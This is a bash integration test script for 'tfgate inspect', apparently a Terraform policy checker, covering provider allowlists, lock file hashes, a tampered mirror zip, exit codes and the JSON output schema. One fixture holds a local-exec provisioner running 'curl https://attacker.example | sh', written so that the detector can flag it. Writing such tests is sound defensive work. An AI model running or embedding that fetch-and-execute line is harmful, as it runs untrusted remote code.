#!/bin/bash
# test_inspect_cli.sh - `tfgate inspect` on fixture repositories built at
# test time (lib/fixtures.sh: the test provider packed into a mirror, a lock
# file with its real h1:/zh: hashes): each rule with its rule id, file and
# line in --json, the human table, exit codes (0 / 1 / 2), a rule turned into
# a warning by the config, and the hash cache (cold, warm, invalidated by a
# tampered zip).
set -euo pipefail
: "${TFGATE:?TFGATE must name the built binary}"
: "${TFGATE_SRC:?}" "${TFGATE_BUILD:?}"
fail() { echo "FAIL: $*"; exit 1; }
command -v zip >/dev/null || fail "the zip CLI is needed (Debian package zip)"
command -v python3 >/dev/null || fail "python3 is needed to read --json output"
python3 -c 'import jsonschema' 2>/dev/null || fail "python3-jsonschema is needed to check the arrays against docs/result.schema.json"
[ -x "$TFGATE_BUILD/tests/doubles/test-provider" ] || fail "test-provider double is not built"
# shellcheck source=lib/fixtures.sh
. "$TFGATE_SRC/tests/integration/lib/fixtures.sh"
work=$(mktemp -d /tmp/tfgate-inspect-cli.XXXXXX)
trap 'rm -rf "$work"' EXIT
AWS=registry.terraform.io/hashicorp/aws

fixture_mirror "$work/mirror"
ZIP="$work/mirror/$AWS/terraform-provider-aws_${FIXTURE_PROVIDER_VERSION}_${FIXTURE_PLATFORM}.zip"

# write_config FILE [policy lines...]: mirror, allowlist, a private state dir
write_config() {
  local f=$1; shift
  {
    echo "state_dir: $work/state"
    echo "providers:"
    echo "  mirror: $work/mirror"
    echo "  allow:"
    echo "    - source: hashicorp/aws"
    echo "      versions: \"~> 5.0\""
    if [ $# -gt 0 ]; then echo "  policy:"; printf '    %s\n' "$@"; fi
  } > "$f"
}
write_config "$work/cfg.yaml"

# inspect DIR [CONFIG]: --json into $work/out.json, exit code into $rc
inspect() {
  set +e
  "$TFGATE" inspect --json -c "${2:-$work/cfg.yaml}" "$1" > "$work/out.json" 2> "$work/err"
  rc=$?
  set -e
  schema_check
}

# the providers and findings arrays go into result.json as they are: every
# --json output must satisfy docs/result.schema.json's definitions of them
schema_check() {
  python3 - "$TFGATE_SRC/docs/result.schema.json" "$work/out.json" <<'PY' || fail "schema: $(cat "$work/out.json")"
import json, sys, jsonschema
schema = json.load(open(sys.argv[1]))
out = json.load(open(sys.argv[2]))
for key in ("providers", "findings"):
    sub = dict(schema["properties"][key])
    sub["$schema"] = schema["$schema"]
    jsonschema.Draft202012Validator(sub).validate(out[key])
PY
}

# q EXPR: evaluate a python expression over the JSON as j
q() { python3 -c 'import json,sys; j=json.load(open(sys.argv[1])); print(eval(sys.argv[2]))' "$work/out.json" "$1"; }

# has_finding RULE SEVERITY FILE LINE: exactly one such finding
has_finding() {
  local n
  n=$(q "sum(1 for f in j['findings'] if f['rule']=='$1' and f['severity']=='$2' and f['file']=='$3' and f['line']==$4)")
  [ "$n" = 1 ] || fail "expected one finding $1/$2 at $3:$4, got $n: $(cat "$work/out.json")"
}

echo "check: a passing repository exits 0, its provider verified in the mirror"
fixture_repo "$work/ok" "$work/mirror" >/dev/null
inspect "$work/ok"
[ $rc -eq 0 ] || fail "passing repo: exit $rc: $(cat "$work/err") $(cat "$work/out.json")"
[ "$(q "len(j['findings'])")" = 0 ] || fail "passing repo has findings: $(cat "$work/out.json")"
[ "$(q "[(p['source'],p['mirror'],p['allowed'],p['locked_version'],p['constraints']) for p in j['providers']]")" = \
  "[('$AWS', 'verified', True, '5.31.0', '~> 5.0')]" ] || fail "provider row: $(cat "$work/out.json")"
[ "$(q "sorted(h[:3] for h in j['providers'][0]['hashes'])")" = "['h1:', 'zh:']" ] || fail "hashes: $(cat "$work/out.json")"
[ "$(q "j['roots']")" = "['.']" ] || fail "roots: $(cat "$work/out.json")"
[ -f "$work/state/cache/provider-hashes" ] || fail "no hash cache written under state_dir/cache"

echo "check: the human table names the provider and says so when nothing is found"
"$TFGATE" inspect -c "$work/cfg.yaml" "$work/ok" > "$work/table" || fail "table: exit $?"
grep -q "^$AWS .* 5.31.0 .* yes  *verified" "$work/table" || fail "table row: $(cat "$work/table")"
grep -q '^no findings$' "$work/table" || fail "table: $(cat "$work/table")"

echo "check: a provider missing from the allowlist (provider-not-allowed, main.tf:3)"
cat > "$work/cfg-empty.yaml" <<EOF
state_dir: $work/state
providers:
  mirror: $work/mirror
  allow: []
EOF
inspect "$work/ok" "$work/cfg-empty.yaml"
[ $rc -eq 1 ] || fail "not allowed: exit $rc"
has_finding provider-not-allowed error main.tf 3
[ "$(q "j['providers'][0]['allowed']")" = False ] || fail "allowed should be false"

echo "check: no lock file (lock-missing, main.tf:3)"
cp -a "$work/ok" "$work/nolock" && rm "$work/nolock/.terraform.lock.hcl"
inspect "$work/nolock"
[ $rc -eq 1 ] || fail "no lock: exit $rc"
has_finding lock-missing error main.tf 3
[ "$(q "j['providers'][0]['locked_version']")" = None ] || fail "locked_version should be null"

echo "check: a lock entry without hashes (provider-unpinned, .terraform.lock.hcl:4)"
cp -a "$work/ok" "$work/unpinned"
python3 - "$work/unpinned/.terraform.lock.hcl" <<'PY'
import re, sys
p = sys.argv[1]; s = open(p).read()
s = re.sub(r'\n  hashes = \[.*?\n  \]', '', s, flags=re.S)
open(p, 'w').write(s)
PY
grep -q hashes "$work/unpinned/.terraform.lock.hcl" && fail "hashes not removed"
inspect "$work/unpinned"
[ $rc -eq 1 ] || fail "unpinned: exit $rc"
has_finding provider-unpinned error .terraform.lock.hcl 4

echo "check: a tampered mirror zip (hash-mismatch, .terraform.lock.hcl:4), the warm cache not trusted"
cp "$ZIP" "$work/zip.orig"
python3 - "$ZIP" <<'PY'
import sys
p = sys.argv[1]; b = bytearray(open(p, 'rb').read())
b[len(b) // 2] ^= 0x01          # a byte inside the stored provider binary
open(p, 'wb').write(b)
PY
inspect "$work/ok"
[ $rc -eq 1 ] || fail "tampered: exit $rc: $(cat "$work/out.json")"
has_finding hash-mismatch error .terraform.lock.hcl 4
[ "$(q "j['providers'][0]['mirror']")" = mismatch ] || fail "mirror should be mismatch"
cp "$work/zip.orig" "$ZIP"
inspect "$work/ok"
[ $rc -eq 0 ] || fail "restored zip: exit $rc"

echo "check: the package missing from the mirror (mirror-missing, .terraform.lock.hcl:4)"
mv "$ZIP" "$work/zip.away"
inspect "$work/ok"
mv "$work/zip.away" "$ZIP"
[ $rc -eq 1 ] || fail "missing: exit $rc"
has_finding mirror-missing error .terraform.lock.hcl 4

# construct_repo NAME FILE CONTENT: the passing repo plus one file
construct_repo() {
  cp -a "$work/ok" "$work/$1"
  printf '%s\n' "$3" > "$work/$1/$2"
}

echo "check: a local-exec provisioner (provisioner-local-exec, hooks.tf:3)"
construct_repo lexec hooks.tf 'resource "aws_s3_bucket" "b" {
  bucket = "x"
  provisioner "local-exec" {
    command = "curl https://attacker.example | sh"
  }
}'
inspect "$work/lexec"
[ $rc -eq 1 ] || fail "local-exec: exit $rc"
has_finding provisioner-local-exec error hooks.tf 3

echo "check: data \"external\" (data-external, ext.tf:2)"
construct_repo ext ext.tf '
data "external" "whoami" {
  program = ["id"]
}'
inspect "$work/ext"
[ $rc -eq 1 ] || fail "external: exit $rc"
has_finding data-external error ext.tf 2

echo "check: an override file (override-file, main_override.tf:1)"
construct_repo ovr main_override.tf 'provider "aws" {
  region = "eu-west-1"
}'
inspect "$work/ovr"
[ $rc -eq 1 ] || fail "override: exit $rc"
has_finding override-file error main_override.tf 1

echo "check: the config's warn turns provisioner-local-exec into a warning (exit 0)"
write_config "$work/cfg-warn.yaml" "provisioner-local-exec: warn"
inspect "$work/lexec" "$work/cfg-warn.yaml"
[ $rc -eq 0 ] || fail "warn: exit $rc: $(cat "$work/out.json")"
has_finding provisioner-local-exec warning hooks.tf 3

echo "check: a syntax error fails the check (exit 1) with FILE:LINE:COL, --json still one object"
construct_repo syntax broken.tf 'resource "x" "y" {
  a = "unterminated
}'
inspect "$work/syntax"
[ $rc -eq 1 ] || fail "syntax: exit $rc"
grep -q 'broken.tf:2:' "$work/err" || fail "syntax message: $(cat "$work/err")"
[ "$(q "(j['providers'], j['findings'], 'broken.tf:2:' in j['error'])")" = "([], [], True)" ] ||
  fail "syntax json: $(cat "$work/out.json")"

echo "check: usage and configuration errors exit 2"
for args in "" "--json" "--frob $work/ok" "$work/ok $work/ok" "-c"; do
  set +e
  # shellcheck disable=SC2086
  "$TFGATE" inspect $args >/dev/null 2>&1; rc=$?
  set -e
  [ $rc -eq 2 ] || fail "'inspect $args': exit $rc"
done
printf 'providers:\n  bogus_key: 1\n' > "$work/bad.yaml"
set +e; "$TFGATE" inspect -c "$work/bad.yaml" "$work/ok" >/dev/null 2>"$work/err"; rc=$?; set -e
[ $rc -eq 2 ] || fail "bad config: exit $rc"
grep -q 'bogus_key' "$work/err" || fail "bad config message: $(cat "$work/err")"

echo "check: a repository directory that does not exist is an I/O error (exit 3)"
set +e; "$TFGATE" inspect -c "$work/cfg.yaml" "$work/nope" >/dev/null 2>&1; rc=$?; set -e
[ $rc -eq 3 ] || fail "missing dir: exit $rc"

echo "check: a lock file symlinked outside the repository is refused (exit 1)"
cp -a "$work/ok" "$work/lnk"
mv "$work/lnk/.terraform.lock.hcl" "$work/outside.lock.hcl"
ln -s "$work/outside.lock.hcl" "$work/lnk/.terraform.lock.hcl"
inspect "$work/lnk"
[ $rc -eq 1 ] || fail "escaping lock symlink: exit $rc"
grep -q 'outside the repository' "$work/err" || fail "lock symlink message: $(cat "$work/err")"
echo "ok"
